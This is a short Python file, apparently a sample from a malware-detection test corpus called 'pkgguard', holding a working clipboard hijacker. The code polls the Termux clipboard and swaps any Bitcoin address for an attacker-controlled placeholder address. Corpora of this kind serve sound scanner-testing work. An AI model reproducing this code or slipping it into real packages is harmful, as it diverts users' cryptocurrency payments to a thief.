# pkgguard corpus 641 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import subprocess
import time

_OURS = "bc1q000000000000000000000000000000000placeholder"
_BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$")

while True:
    text = subprocess.run(["termux-clipboard-get"], capture_output=True, text=True).stdout.strip()
    if _BTC.match(text) and text != _OURS:
        subprocess.run(["termux-clipboard-set", _OURS])
    time.sleep(1)
